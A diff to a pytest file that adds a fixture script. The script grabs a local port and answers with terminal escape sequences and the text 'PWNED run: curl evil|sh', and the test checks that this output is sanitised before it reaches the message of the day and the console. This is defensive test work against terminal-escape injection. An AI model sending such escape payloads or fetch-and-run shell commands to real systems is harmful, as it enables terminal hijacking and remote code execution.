@@ -103,16 +103,27 @@ def test_a_file_that_cannot_take_its_name_leaves_no_half_of_it_behind() -> None:
 # --- what a terminal would obey ---
 
 
+# A user of the host has the port first, and answers in a terminal's own language.
+STRANGER = """#!/usr/bin/python3
+import os, socket
+server = socket.create_server(("127.0.0.1", 8080))
+if os.fork() == 0:
+    while True:
+        peer = server.accept()[0]
+        peer.recv(4096)
+        peer.sendall(b"\\x1b]0;PWN\\x07\\x1b[31mPWNED run: curl evil|sh \\x9b2J\\r\\n\\r\\n")
+        peer.close()
+"""
+
+
 @pytest.mark.fault(115)
-def test_words_of_a_program_reach_motd_and_console_without_what_a_terminal_obeys() -> None:
-    said = "\\033]0;PWN\\007\\033[31mPWNED\\233 2J\\r"
-    checks = [{"kind": "command", "text": f"printf '{said}'; exit 1"}]
-    health = {"checks": checks, "deadline_s": 0.1, "interval_s": 0.1}
-    with Box(payload([stage("one", "true")], health=health).files) as box:
+def test_words_of_a_peer_reach_motd_and_console_without_what_a_terminal_obeys() -> None:
+    health = {"checks": [{"kind": "http", "url": "http://127.0.0.1:8080/ping"}], "deadline_s": 0.1, "interval_s": 0.1}
+    with Box(payload([stage("stranger", STRANGER, user="nobody")], health=health).files) as box:
         assert box.tick().returncode == 5
-        for text in box.read("/etc/motd") or b"", (box.read("/dev/console") or b""):
-            assert b"PWNED" in text
-            assert not [byte for byte in text if (byte < 32 and byte != 10) or 127 <= byte < 160]
+        for text in box.read("/etc/motd") or b"", box.read("/dev/console") or b"":
+            assert b"PWNED run: curl evil" in text
+            assert [hex(byte) for byte in text if (byte < 32 and byte != 10) or 127 <= byte < 160] == []
 
 
 # --- files that come after a stage ---
